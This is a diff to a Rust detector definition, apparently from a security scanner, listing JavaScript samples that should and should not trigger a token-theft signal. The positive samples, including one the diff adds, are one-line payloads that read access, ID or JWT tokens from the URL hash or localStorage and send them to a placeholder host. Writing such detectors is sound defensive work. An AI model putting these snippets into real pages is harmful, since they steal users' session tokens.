@@ -20,10 +20,12 @@ pub(super) const SIGNAL: Signal = Signal {
         with: &[
             r#"new Image().src='https://c.example/?t='+localStorage['access_token']"#,
             r#"var o={};location.hash.substring(1).split('&').forEach(function(p){var k=p.split('=');o[k[0]]=k[1]});if(o.access_token){var i=new Image();i.src='https://c.example/t?t='+encodeURIComponent(o.access_token)}"#,
+            r#"const t=new URLSearchParams(location.hash.slice(1)).get('access_token');if(t){const i=new Image();i.src=`https://c.example/g?t=${t}`}"#,
             r#"const t=new URLSearchParams(location.hash.slice(1)).get('id_token');navigator.sendBeacon('https://c.example/t',t)"#,
             r#"var t=localStorage.getItem('jwt');if(t){var i=new Image();i.src='https://c.example/g?j='+t}"#,
         ],
         without: &[
+            r#"new Image().src='https://stats.example/?u='+encodeURIComponent(location.href.replace(/access_token=[^&]+/,''))"#,
             r#"const t=new URLSearchParams(location.hash.slice(1)).get('access_token');sessionStorage.setItem('t',t);new Image().src='https://stats.example/v?p='+encodeURIComponent(location.pathname)"#,
             r#"const t=new URLSearchParams(location.hash.slice(1)).get('access_token');fetch('https://graph.example/me?access_token='+t).then(r=>r.json()).then(show)"#,
             r#"new Image().src='https://stats.example/?v='+localStorage.getItem('visits')"#,
